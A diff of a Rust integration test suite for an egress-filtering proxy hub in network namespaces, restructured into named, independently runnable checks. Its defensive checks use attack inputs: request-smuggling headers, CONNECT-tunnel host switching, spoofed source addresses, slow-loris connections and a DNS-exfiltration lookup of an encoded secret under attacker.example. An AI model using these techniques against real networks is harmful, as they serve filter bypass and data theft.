@@ -10,6 +10,9 @@
 //! Devboxes resolve every test name to the hub (their /etc/netns hosts file), which must not matter:
 //! the hub resolves names itself (its own hosts file maps allowed.test to the world). Clients are the
 //! ordinary tools an agent uses: curl, openssl, python.
+//!
+//! The lab is built once; then every named check in [`CHECKS`] runs on it and a failure is reported by
+//! name without stopping the rest. Run some alone with `MCP_HUB_NETNS_CHECK=name[,name...]`.
 
 #![allow(clippy::unwrap_used)] // test code: a failed step is a failed test
 
@@ -437,285 +440,147 @@ fn world(tag: &str) -> Option<World> {
     Some(World { lab, d, token, ca })
 }
 
+/// A named check on the running lab. Checks run in this order; each can also run alone
+/// (`MCP_HUB_NETNS_CHECK=name[,name...]`), so none depends on another having run.
+type Check = (&'static str, fn(&mut World));
+
+const CHECKS: &[Check] = &[
+    (
+        "allowed_hosts_are_reached_over_http_and_https",
+        allowed_hosts_are_reached_over_http_and_https,
+    ),
+    (
+        "denied_hosts_are_refused_at_once",
+        denied_hosts_are_refused_at_once,
+    ),
+    ("ipv6_takes_the_same_pipeline", ipv6_takes_the_same_pipeline),
+    (
+        "raw_ips_private_names_and_rebinding_are_refused",
+        raw_ips_private_names_and_rebinding_are_refused,
+    ),
+    (
+        "the_mcp_gateway_is_intercepted_and_served",
+        the_mcp_gateway_is_intercepted_and_served,
+    ),
+    (
+        "the_explicit_proxy_decides_alike",
+        the_explicit_proxy_decides_alike,
+    ),
+    (
+        "a_second_devbox_has_its_own_policy",
+        a_second_devbox_has_its_own_policy,
+    ),
+    (
+        "dns_answers_only_allowed_names",
+        dns_answers_only_allowed_names,
+    ),
+    ("udp_does_not_leave", udp_does_not_leave),
+    (
+        "the_audit_names_devbox_policy_and_reason",
+        the_audit_names_devbox_policy_and_reason,
+    ),
+    (
+        "ambiguous_requests_are_refused",
+        ambiguous_requests_are_refused,
+    ),
+    (
+        "connect_tunnels_carry_only_their_host",
+        connect_tunnels_carry_only_their_host,
+    ),
+    (
+        "spoofed_sources_are_dropped_by_the_ruleset",
+        spoofed_sources_are_dropped_by_the_ruleset,
+    ),
+    (
+        "names_of_the_hub_host_reach_none_of_its_services",
+        names_of_the_hub_host_reach_none_of_its_services,
+    ),
+    (
+        "addresses_added_to_the_host_count_at_once",
+        addresses_added_to_the_host_count_at_once,
+    ),
+    (
+        "odd_openings_get_the_promised_answers",
+        odd_openings_get_the_promised_answers,
+    ),
+    (
+        "slow_loris_does_not_delay_real_requests",
+        slow_loris_does_not_delay_real_requests,
+    ),
+];
+
+/// Build the lab once and run every check on it; a failing check is reported by name and the others
+/// still run, so the first failure hides nothing.
 #[test]
-fn transparent_egress_in_network_namespaces() {
-    let Some(World {
-        lab, d, token, ca, ..
-    }) = world("t")
-    else {
+fn egress_in_network_namespaces() {
+    let Some(mut w) = world("n") else {
         return;
     };
-    let (dbx, wld) = (lab.ns("dbx"), lab.ns("wld"));
-    let ca = ca.as_str();
+    let only = std::env::var("MCP_HUB_NETNS_CHECK").ok();
+    let mut failed = Vec::new();
+    for (name, check) in CHECKS {
+        if only
+            .as_deref()
+            .is_some_and(|o| !o.split(',').any(|x| x == *name))
+        {
+            continue;
+        }
+        eprintln!("netns check: {name}");
+        let started = Instant::now();
+        if std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| check(&mut w))).is_err() {
+            failed.push(*name);
+        }
+        eprintln!("netns check: {name} done in {:?}", started.elapsed());
+    }
+    assert!(failed.is_empty(), "failed netns checks: {failed:?}");
+}
 
-    let curl = |ns: &str, args: &[&str]| -> Output {
-        let mut a = vec!["curl", "-sS", "--max-time", "8"];
-        a.extend_from_slice(args);
-        lab.exec(ns, &a)
-    };
-    let text = |o: &Output| {
-        format!(
-            "{}{}",
-            String::from_utf8_lossy(&o.stdout),
-            String::from_utf8_lossy(&o.stderr)
-        )
-    };
+/// `curl -sS --max-time 8 ARGS` in namespace `ns`.
+fn curl(lab: &Lab, ns: &str, args: &[&str]) -> Output {
+    let mut a = vec!["curl", "-sS", "--max-time", "8"];
+    a.extend_from_slice(args);
+    lab.exec(ns, &a)
+}
 
-    // Allowed host over HTTP and HTTPS, although the devbox dialled the hub's address.
-    let o = curl("dbx", &["http://allowed.test/"]);
-    assert_eq!(
+/// Everything a command printed.
+fn text(o: &Output) -> String {
+    format!(
+        "{}{}",
         String::from_utf8_lossy(&o.stdout),
-        "hello from the world\n",
-        "{}",
-        text(&o)
-    );
-    let o = curl(
-        "dbx",
+        String::from_utf8_lossy(&o.stderr)
+    )
+}
+
+/// The response (head and body) to `GET url` from dbx.
+fn get(lab: &Lab, url: &str) -> String {
+    text(&curl(lab, "dbx", &["-i", url]))
+}
+
+/// A `tools/list` from namespace `ns` to the gateway host, with dbx's token.
+fn mcp(w: &World, ns: &str) -> Output {
+    curl(
+        &w.lab,
+        ns,
         &[
             "--cacert",
-            d.join("w.pem").to_str().unwrap(),
-            "https://allowed.test/",
-        ],
-    );
-    assert!(
-        o.status.success() && text(&o).contains("s_server"),
-        "{}",
-        text(&o)
-    );
-
-    // Denied host: immediate 403 with the reason over HTTP; a TLS alert (no certificate) over HTTPS.
-    let start = Instant::now();
-    let o = curl("dbx", &["-i", "http://denied.test/"]);
-    assert!(
-        text(&o).contains("403 Forbidden")
-            && text(&o).contains("X-Proxy-Error: not_in_allowed_hostnames"),
-        "{}",
-        text(&o)
-    );
-    assert!(
-        text(&o).contains("blocked by network policy"),
-        "{}",
-        text(&o)
-    );
-    let o = curl("dbx", &["-k", "https://denied.test/"]);
-    assert!(
-        !o.status.success() && text(&o).to_lowercase().contains("access denied"),
-        "{}",
-        text(&o)
-    );
-    assert!(
-        start.elapsed() < Duration::from_secs(3),
-        "denials must be immediate"
-    );
-
-    // IPv6: the same pipeline (IP6T_SO_ORIGINAL_DST, hub-side resolution to an IPv6 world).
-    let o = curl("dbx", &["-6", "http://allowed6.test/"]);
-    assert_eq!(
-        String::from_utf8_lossy(&o.stdout),
-        "hello from the world\n",
-        "IPv6: {}",
-        text(&o)
-    );
-    let o = curl(
-        "dbx",
-        &[
-            "-6",
-            "-i",
-            "-g",
+            &w.ca,
             "-H",
-            "Host: denied.test",
-            "http://[fd77::1]/",
+            &format!("Authorization: Bearer {}", w.token),
+            "-H",
+            "Content-Type: application/json",
+            "-H",
+            "Accept: application/json, text/event-stream",
+            "-d",
+            r#"{"jsonrpc":"2.0","id":1,"method":"tools/list"}"#,
+            "https://mcp.hub.internal/mcp",
         ],
-    );
-    assert!(
-        text(&o).contains("X-Proxy-Error: not_in_allowed_hostnames"),
-        "IPv6 denial: {}",
-        text(&o)
-    );
-    let o = curl("dbx", &["-6", "-i", "-g", "http://[fd88::2]/"]);
-    assert!(
-        text(&o).contains("X-Proxy-Error: raw_ip"),
-        "IPv6 raw address: {}",
-        text(&o)
-    );
+    )
+}
 
-    // Raw IPs, the metadata address, names resolving to private addresses, DNS rebinding.
-    let o = curl("dbx", &["-i", "http://10.88.0.2/"]);
-    assert!(text(&o).contains("X-Proxy-Error: raw_ip"), "{}", text(&o));
-    let o = curl("dbx", &["-k", "https://169.254.169.254/"]);
-    assert!(
-        !o.status.success() && text(&o).to_lowercase().contains("access denied"),
-        "{}",
-        text(&o)
-    );
-    let o = curl("dbx", &["-i", "http://private.test/"]);
-    assert!(
-        text(&o).contains("X-Proxy-Error: private_address"),
-        "{}",
-        text(&o)
-    );
-    let o = curl("dbx", &["-i", "http://rebind.test/"]);
-    assert!(
-        text(&o).contains("X-Proxy-Error: private_address"),
-        "one private answer refuses the name: {}",
-        text(&o)
-    );
-    // Host and absolute target disagreeing inside one request.
-    let o = curl(
-        "dbx",
-        &["-i", "-H", "Host: allowed.test", "http://denied.test/"],
-    );
-    assert!(
-        text(&o).contains("hello from the world"),
-        "Host decides, and it is the host dialled: {}",
-        text(&o)
-    );
-
-    // The MCP gateway, intercepted and served by the hub, exactly as directly.
-    let mcp = |ns: &str| {
-        curl(
-            ns,
-            &[
-                "--cacert",
-                ca,
-                "-H",
-                &format!("Authorization: Bearer {token}"),
-                "-H",
-                "Content-Type: application/json",
-                "-H",
-                "Accept: application/json, text/event-stream",
-                "-d",
-                r#"{"jsonrpc":"2.0","id":1,"method":"tools/list"}"#,
-                "https://mcp.hub.internal/mcp",
-            ],
-        )
-    };
-    let o = mcp("dbx");
-    assert!(
-        o.status.success()
-            && text(&o).contains("github.get_issue")
-            && !text(&o).contains("delete_repo"),
-        "{}",
-        text(&o)
-    );
-    if let Some(py) =
-        std::env::var_os("MCP_HUB_INTEROP_DIR").map(|d| PathBuf::from(d).join("venv/bin/python"))
-    {
-        let script = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/interop/netns_client.py");
-        let o = Command::new("ip")
-            .args([
-                "netns",
-                "exec",
-                &dbx,
-                py.to_str().unwrap(),
-                script,
-                "https://mcp.hub.internal/mcp",
-                &token,
-            ])
-            .env("SSL_CERT_FILE", ca)
-            .output()
-            .unwrap();
-        assert!(
-            o.status.success() && text(&o).contains("github.get_issue"),
-            "python client in the devbox: {}",
-            text(&o)
-        );
-    }
-
-    // Explicit proxy (HTTPS_PROXY) from inside the devbox reaches the same decisions.
-    let o = curl(
-        "dbx",
-        &["-x", "http://10.77.0.1:3128", "http://allowed.test/"],
-    );
-    assert_eq!(
-        String::from_utf8_lossy(&o.stdout),
-        "hello from the world\n",
-        "{}",
-        text(&o)
-    );
-    let o = curl(
-        "dbx",
-        &["-x", "http://10.77.0.1:3128", "-k", "https://denied.test/"],
-    );
-    assert!(
-        !o.status.success() && text(&o).contains("403"),
-        "{}",
-        text(&o)
-    );
-
-    // The second devbox gets its own policy: nothing, not even the gateway.
-    let o = curl("dbx2", &["-i", "http://allowed.test/"]);
-    assert!(
-        text(&o).contains("X-Proxy-Error: not_in_allowed_hostnames"),
-        "{}",
-        text(&o)
-    );
-    let o = mcp("dbx2");
-    assert!(
-        !o.status.success() && text(&o).to_lowercase().contains("access denied"),
-        "{}",
-        text(&o)
-    );
-
-    // DNS (port 53 is redirected to the hub's responder): allowed names and the gateway are answered,
-    // everything else is refused and never forwarded.
-    let dig = |ns: &str, name: &str| -> String {
-        let o = lab.exec(ns, &["dig", "+tries=1", "+time=3", "@10.77.0.1", name, "A"]);
-        String::from_utf8_lossy(&o.stdout).into_owned()
-    };
-    let out = dig("dbx", "allowed.test");
-    assert!(
-        out.contains("status: NOERROR") && out.contains("10.88.0.2"),
-        "{out}"
-    );
-    let out = dig("dbx", "mcp.hub.internal");
-    assert!(
-        out.contains("status: NOERROR") && out.contains("10.77.0.1"),
-        "{out}"
-    );
-    for name in [
-        "denied.test",
-        "c2VjcmV0.exfil.attacker.example",
-        "private.test",
-    ] {
-        let out = dig("dbx", name);
-        assert!(out.contains("status: REFUSED"), "{name}: {out}");
-    }
-    let out = dig("dbx2", "mcp.hub.internal");
-    assert!(
-        out.contains("status: REFUSED"),
-        "locked policy, gateway name: {out}"
-    );
-    // Any other resolver is unreachable: the query to it is redirected to the hub too.
-    let o = lab.exec(
-        "dbx",
-        &["dig", "+tries=1", "+time=3", "@8.8.8.8", "denied.test", "A"],
-    );
-    assert!(
-        String::from_utf8_lossy(&o.stdout).contains("status: REFUSED"),
-        "{}",
-        text(&o)
-    );
-
-    // UDP (QUIC included) does not leave: the world's sink receives nothing.
-    let send = "import socket;s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)\nfor _ in range(5): s.sendto(b'x',('10.88.0.2',5353))";
-    lab.exec("dbx", &["python3", "-c", send]);
-    wait_for("the UDP sink", || !lab.log("udp.log").is_empty());
-    assert_eq!(lab.log("udp.log").trim(), "NOTHING");
-
-    // Audit: one line per connection with devbox, policy, verdict and reason.
-    let log = lab.log("hub.log");
-    assert!(log.contains("devbox=\"dbx\""), "no dbx line in {log}");
-    assert!(
-        log.contains("reason=\"not_in_allowed_hostnames\""),
-        "no denial line in {log}"
-    );
-    assert!(log.contains("reason=\"mcp_gateway\""), "{log}");
-    assert!(
-        log.contains("devbox=\"dbx2\"") && log.contains("reason=\"mcp_gateway_not_allowed\""),
-        "{log}"
-    );
-    let _ = wld;
+/// An A query for `name` from namespace `ns` to the hub's resolver address.
+fn dig(lab: &Lab, ns: &str, name: &str) -> String {
+    let o = lab.exec(ns, &["dig", "+tries=1", "+time=3", "@10.77.0.1", name, "A"]);
+    String::from_utf8_lossy(&o.stdout).into_owned()
 }
 
 /// Send `bytes` from namespace `n` to `addr:port` over TCP and return everything that comes back.
@@ -732,15 +597,284 @@ fn raw_tcp(lab: &Lab, n: &str, addr: &str, port: u16, bytes: &str) -> String {
     )
 }
 
-/// The bypasses an attacker in a devbox found end to end, each refused (every one of them got through
-/// before the fixes this test came with).
-#[test]
-fn bypasses_found_end_to_end_are_closed() {
-    let Some(World { mut lab, d, .. }) = world("b") else {
-        return;
-    };
-    let (hub, dbx2) = (lab.ns("hub"), lab.ns("dbx2"));
+fn allowed_hosts_are_reached_over_http_and_https(w: &mut World) {
+    let lab = &w.lab;
+    // Allowed host over HTTP and HTTPS, although the devbox dialled the hub's address.
+    let o = curl(lab, "dbx", &["http://allowed.test/"]);
+    assert_eq!(
+        String::from_utf8_lossy(&o.stdout),
+        "hello from the world\n",
+        "{}",
+        text(&o)
+    );
+    let o = curl(
+        lab,
+        "dbx",
+        &[
+            "--cacert",
+            w.d.join("w.pem").to_str().unwrap(),
+            "https://allowed.test/",
+        ],
+    );
+    assert!(
+        o.status.success() && text(&o).contains("s_server"),
+        "{}",
+        text(&o)
+    );
+}
 
+fn denied_hosts_are_refused_at_once(w: &mut World) {
+    let lab = &w.lab;
+    // Denied host: immediate 403 with the reason over HTTP; a TLS alert (no certificate) over HTTPS.
+    let start = Instant::now();
+    let o = curl(lab, "dbx", &["-i", "http://denied.test/"]);
+    assert!(
+        text(&o).contains("403 Forbidden")
+            && text(&o).contains("X-Proxy-Error: not_in_allowed_hostnames"),
+        "{}",
+        text(&o)
+    );
+    assert!(
+        text(&o).contains("blocked by network policy"),
+        "{}",
+        text(&o)
+    );
+    let o = curl(lab, "dbx", &["-k", "https://denied.test/"]);
+    assert!(
+        !o.status.success() && text(&o).to_lowercase().contains("access denied"),
+        "{}",
+        text(&o)
+    );
+    assert!(
+        start.elapsed() < Duration::from_secs(3),
+        "denials must be immediate"
+    );
+}
+
+fn ipv6_takes_the_same_pipeline(w: &mut World) {
+    let lab = &w.lab;
+    // IPv6: the same pipeline (IP6T_SO_ORIGINAL_DST, hub-side resolution to an IPv6 world).
+    let o = curl(lab, "dbx", &["-6", "http://allowed6.test/"]);
+    assert_eq!(
+        String::from_utf8_lossy(&o.stdout),
+        "hello from the world\n",
+        "IPv6: {}",
+        text(&o)
+    );
+    let o = curl(
+        lab,
+        "dbx",
+        &[
+            "-6",
+            "-i",
+            "-g",
+            "-H",
+            "Host: denied.test",
+            "http://[fd77::1]/",
+        ],
+    );
+    assert!(
+        text(&o).contains("X-Proxy-Error: not_in_allowed_hostnames"),
+        "IPv6 denial: {}",
+        text(&o)
+    );
+    let o = curl(lab, "dbx", &["-6", "-i", "-g", "http://[fd88::2]/"]);
+    assert!(
+        text(&o).contains("X-Proxy-Error: raw_ip"),
+        "IPv6 raw address: {}",
+        text(&o)
+    );
+}
+
+fn raw_ips_private_names_and_rebinding_are_refused(w: &mut World) {
+    let lab = &w.lab;
+    // Raw IPs, the metadata address, names resolving to private addresses, DNS rebinding.
+    let o = curl(lab, "dbx", &["-i", "http://10.88.0.2/"]);
+    assert!(text(&o).contains("X-Proxy-Error: raw_ip"), "{}", text(&o));
+    let o = curl(lab, "dbx", &["-k", "https://169.254.169.254/"]);
+    assert!(
+        !o.status.success() && text(&o).to_lowercase().contains("access denied"),
+        "{}",
+        text(&o)
+    );
+    let o = curl(lab, "dbx", &["-i", "http://private.test/"]);
+    assert!(
+        text(&o).contains("X-Proxy-Error: private_address"),
+        "{}",
+        text(&o)
+    );
+    let o = curl(lab, "dbx", &["-i", "http://rebind.test/"]);
+    assert!(
+        text(&o).contains("X-Proxy-Error: private_address"),
+        "one private answer refuses the name: {}",
+        text(&o)
+    );
+    // Host and absolute target disagreeing inside one request.
+    let o = curl(
+        lab,
+        "dbx",
+        &["-i", "-H", "Host: allowed.test", "http://denied.test/"],
+    );
+    assert!(
+        text(&o).contains("hello from the world"),
+        "Host decides, and it is the host dialled: {}",
+        text(&o)
+    );
+}
+
+fn the_mcp_gateway_is_intercepted_and_served(w: &mut World) {
+    let (lab, ca) = (&w.lab, w.ca.as_str());
+    // The MCP gateway, intercepted and served by the hub, exactly as directly.
+    let o = mcp(w, "dbx");
+    assert!(
+        o.status.success()
+            && text(&o).contains("github.get_issue")
+            && !text(&o).contains("delete_repo"),
+        "{}",
+        text(&o)
+    );
+    if let Some(py) =
+        std::env::var_os("MCP_HUB_INTEROP_DIR").map(|d| PathBuf::from(d).join("venv/bin/python"))
+    {
+        let script = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/interop/netns_client.py");
+        let o = Command::new("ip")
+            .args([
+                "netns",
+                "exec",
+                &lab.ns("dbx"),
+                py.to_str().unwrap(),
+                script,
+                "https://mcp.hub.internal/mcp",
+                &w.token,
+            ])
+            .env("SSL_CERT_FILE", ca)
+            .output()
+            .unwrap();
+        assert!(
+            o.status.success() && text(&o).contains("github.get_issue"),
+            "python client in the devbox: {}",
+            text(&o)
+        );
+    }
+}
+
+fn the_explicit_proxy_decides_alike(w: &mut World) {
+    let lab = &w.lab;
+    // Explicit proxy (HTTPS_PROXY) from inside the devbox reaches the same decisions.
+    let o = curl(
+        lab,
+        "dbx",
+        &["-x", "http://10.77.0.1:3128", "http://allowed.test/"],
+    );
+    assert_eq!(
+        String::from_utf8_lossy(&o.stdout),
+        "hello from the world\n",
+        "{}",
+        text(&o)
+    );
+    let o = curl(
+        lab,
+        "dbx",
+        &["-x", "http://10.77.0.1:3128", "-k", "https://denied.test/"],
+    );
+    assert!(
+        !o.status.success() && text(&o).contains("403"),
+        "{}",
+        text(&o)
+    );
+}
+
+fn a_second_devbox_has_its_own_policy(w: &mut World) {
+    let lab = &w.lab;
+    // The second devbox gets its own policy: nothing, not even the gateway.
+    let o = curl(lab, "dbx2", &["-i", "http://allowed.test/"]);
+    assert!(
+        text(&o).contains("X-Proxy-Error: not_in_allowed_hostnames"),
+        "{}",
+        text(&o)
+    );
+    let o = mcp(w, "dbx2");
+    assert!(
+        !o.status.success() && text(&o).to_lowercase().contains("access denied"),
+        "{}",
+        text(&o)
+    );
+}
+
+fn dns_answers_only_allowed_names(w: &mut World) {
+    let lab = &w.lab;
+    // DNS (port 53 is redirected to the hub's responder): allowed names and the gateway are answered,
+    // everything else is refused and never forwarded.
+    let out = dig(lab, "dbx", "allowed.test");
+    assert!(
+        out.contains("status: NOERROR") && out.contains("10.88.0.2"),
+        "{out}"
+    );
+    let out = dig(lab, "dbx", "mcp.hub.internal");
+    assert!(
+        out.contains("status: NOERROR") && out.contains("10.77.0.1"),
+        "{out}"
+    );
+    for name in [
+        "denied.test",
+        "c2VjcmV0.exfil.attacker.example",
+        "private.test",
+    ] {
+        let out = dig(lab, "dbx", name);
+        assert!(out.contains("status: REFUSED"), "{name}: {out}");
+    }
+    let out = dig(lab, "dbx2", "mcp.hub.internal");
+    assert!(
+        out.contains("status: REFUSED"),
+        "locked policy, gateway name: {out}"
+    );
+    // Any other resolver is unreachable: the query to it is redirected to the hub too.
+    let o = lab.exec(
+        "dbx",
+        &["dig", "+tries=1", "+time=3", "@8.8.8.8", "denied.test", "A"],
+    );
+    assert!(
+        String::from_utf8_lossy(&o.stdout).contains("status: REFUSED"),
+        "{}",
+        text(&o)
+    );
+}
+
+fn udp_does_not_leave(w: &mut World) {
+    let lab = &w.lab;
+    // UDP (QUIC included) does not leave: the world's sink receives nothing.
+    let send = "import socket;s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)\nfor _ in range(5): s.sendto(b'x',('10.88.0.2',5353))";
+    lab.exec("dbx", &["python3", "-c", send]);
+    wait_for("the UDP sink", || !lab.log("udp.log").is_empty());
+    assert_eq!(lab.log("udp.log").trim(), "NOTHING");
+}
+
+fn the_audit_names_devbox_policy_and_reason(w: &mut World) {
+    // Audit: one line per connection with devbox, policy, verdict and reason. Its own traffic first, so
+    // that the check stands alone: a denial and the gateway from dbx, the gateway from dbx2.
+    curl(&w.lab, "dbx", &["http://denied.test/"]);
+    mcp(w, "dbx");
+    mcp(w, "dbx2");
+    let lab = &w.lab;
+    wait_for("the audit lines", || {
+        lab.log("hub.log")
+            .contains("reason=\"mcp_gateway_not_allowed\"")
+    });
+    let log = lab.log("hub.log");
+    assert!(log.contains("devbox=\"dbx\""), "no dbx line in {log}");
+    assert!(
+        log.contains("reason=\"not_in_allowed_hostnames\""),
+        "no denial line in {log}"
+    );
+    assert!(log.contains("reason=\"mcp_gateway\""), "{log}");
+    assert!(
+        log.contains("devbox=\"dbx2\"") && log.contains("reason=\"mcp_gateway_not_allowed\""),
+        "{log}"
+    );
+}
+
+fn ambiguous_requests_are_refused(w: &mut World) {
+    let lab = &w.lab;
     // SECURITY 1: a second Host (an origin that picks the last would serve the denied virtual host),
     // and the other framings an origin could read differently: 400, nothing forwarded. Transparent
     // (any address the devbox dials is redirected) and through the explicit proxy alike.
@@ -753,7 +887,7 @@ fn bypasses_found_end_to_end_are_closed() {
             "Content-Length: 0\r\nTransfer-Encoding: chunked\r\n",
         ] {
             let req = format!("GET {target} HTTP/1.1\r\nHost: allowed.test\r\n{extra}\r\n");
-            let got = raw_tcp(&lab, "dbx", addr, port, &req);
+            let got = raw_tcp(lab, "dbx", addr, port, &req);
             assert!(
                 got.starts_with("HTTP/1.1 400") && got.contains("X-Proxy-Error: ambiguous_request"),
                 "{addr}:{port} {extra:?}: {got}"
@@ -761,12 +895,15 @@ fn bypasses_found_end_to_end_are_closed() {
             assert!(!got.contains("hello from the world"), "{got}");
         }
     }
+}
 
+fn connect_tunnels_carry_only_their_host(w: &mut World) {
+    let lab = &w.lab;
     // SECURITY 2: plain HTTP inside a CONNECT tunnel names another host, in the CONNECT's own
     // segment or after the 200: 421, never tunnelled. The host it was opened for still works.
     let tunnel = "CONNECT allowed.test:80 HTTP/1.1\r\nHost: allowed.test:80\r\n\r\n";
     let got = raw_tcp(
-        &lab,
+        lab,
         "dbx",
         "10.77.0.1",
         3128,
@@ -778,20 +915,23 @@ fn bypasses_found_end_to_end_are_closed() {
     );
     assert!(!got.contains("hello from the world"), "{got}");
     let got = raw_tcp(
-        &lab,
+        lab,
         "dbx",
         "10.77.0.1",
         3128,
         &format!("{tunnel}GET /index.html HTTP/1.1\r\nHost: allowed.test\r\n\r\n"),
     );
     assert!(got.contains("hello from the world"), "{got}");
+}
 
+fn spoofed_sources_are_dropped_by_the_ruleset(w: &mut World) {
+    let lab = &w.lab;
     // SECURITY 3: a devbox that sends with another devbox's source address is dropped by the ruleset
     // before the hub sees it (here dbx2, "locked", poses as dbx, "dev", towards the DNS responder).
     ok(&[
         "ip",
         "-n",
-        &dbx2,
+        &lab.ns("dbx2"),
         "addr",
         "add",
         "10.77.0.2/32",
@@ -827,7 +967,7 @@ fn bypasses_found_end_to_end_are_closed() {
         "ip",
         "netns",
         "exec",
-        &hub,
+        &lab.ns("hub"),
         "nft",
         "list",
         "chain",
@@ -841,42 +981,63 @@ fn bypasses_found_end_to_end_are_closed() {
             .any(|l| l.contains("vd1") && l.contains("fib saddr") && !l.contains("packets 0 ")),
         "{counters}"
     );
+    // The forged address goes again, so later checks see dbx2 as itself.
+    ok(&[
+        "ip",
+        "-n",
+        &lab.ns("dbx2"),
+        "addr",
+        "del",
+        "10.77.0.2/32",
+        "dev",
+        "eth0",
+    ]);
+}
 
+fn names_of_the_hub_host_reach_none_of_its_services(w: &mut World) {
+    let lab = &w.lab;
     // SECURITY 4: a name that resolves to one of the hub host's own addresses reaches none of its
     // services (only the hub's own listeners were guarded before).
-    let curl = |url: &str| {
-        let o = lab.exec("dbx", &["curl", "-sS", "-i", "--max-time", "8", url]);
-        format!(
-            "{}{}",
-            String::from_utf8_lossy(&o.stdout),
-            String::from_utf8_lossy(&o.stderr)
-        )
-    };
-    let got = curl("http://hubself.test:2222/");
+    let got = get(lab, "http://hubself.test:2222/");
     assert!(got.contains("X-Proxy-Error: host_address"), "{got}");
     let got = raw_tcp(
-        &lab,
+        lab,
         "dbx",
         "10.77.0.1",
         3128,
         "CONNECT hubself.test:2222 HTTP/1.1\r\nHost: hubself.test:2222\r\n\r\n",
     );
     assert!(got.contains("X-Proxy-Error: host_address"), "{got}");
+}
 
+fn addresses_added_to_the_host_count_at_once(w: &mut World) {
+    let lab = &w.lab;
     // SECURITY 5: an address added to the host while the hub runs is the host's at once.
-    ok(&["ip", "-n", &hub, "addr", "add", "10.88.0.9/24", "dev", "vw"]);
+    ok(&[
+        "ip",
+        "-n",
+        &lab.ns("hub"),
+        "addr",
+        "add",
+        "10.88.0.9/24",
+        "dev",
+        "vw",
+    ]);
     let probe = "exec 3<>/dev/tcp/10.88.0.9/2222";
     wait_for("the new address", || {
         lab.exec("hub", &["bash", "-c", probe]).status.success()
     });
-    let got = curl("http://hubnew.test:2222/");
+    let got = get(lab, "http://hubnew.test:2222/");
     assert!(got.contains("X-Proxy-Error: host_address"), "{got}");
     assert!(
         !lab.log("hostsvc.log").contains("GET /"),
         "the host service was reached: {}",
         lab.log("hostsvc.log")
     );
+}
 
+fn odd_openings_get_the_promised_answers(w: &mut World) {
+    let lab = &w.lab;
     // Also seen end to end: a ClientHello whose SNI rustls refuses (numeric) gets the promised
     // access_denied alert, not a reset; the devbox's IPv6 resolver is answered; an IPv4-compatible
     // IPv6 destination is refused at once instead of hanging.
@@ -912,14 +1073,17 @@ fn bypasses_found_end_to_end_are_closed() {
         "IPv6 DNS: {out}"
     );
     let start = Instant::now();
-    let got = curl("http://[::10.88.0.2]/");
+    let got = get(lab, "http://[::10.88.0.2]/");
     assert!(
         start.elapsed() < Duration::from_secs(3),
         "::a.b.c.d took {:?}: {got}",
         start.elapsed()
     );
     assert!(!got.contains("hello from the world"), "{got}");
+}
 
+fn slow_loris_does_not_delay_real_requests(w: &mut World) {
+    let lab = &mut w.lab;
     // Slow-loris on the transparent listener: 200 connections (to ports 80 and 443, both redirected)
     // that send one byte of a request head or a ClientHello and then nothing. While they are held, a
     // real request is served at once; the hub closes every one of them by itself (first-byte and
@@ -931,7 +1095,7 @@ fn bypasses_found_end_to_end_are_closed() {
     });
     let start = Instant::now();
     let got = raw_tcp(
-        &lab,
+        lab,
         "dbx",
         "10.88.0.2",
         80,
@@ -952,5 +1116,4 @@ fn bypasses_found_end_to_end_are_closed() {
         "the hub held slow-loris connections: {out}"
     );
     eprintln!("slow-loris: {}", out.trim());
-    let _ = d;
 }
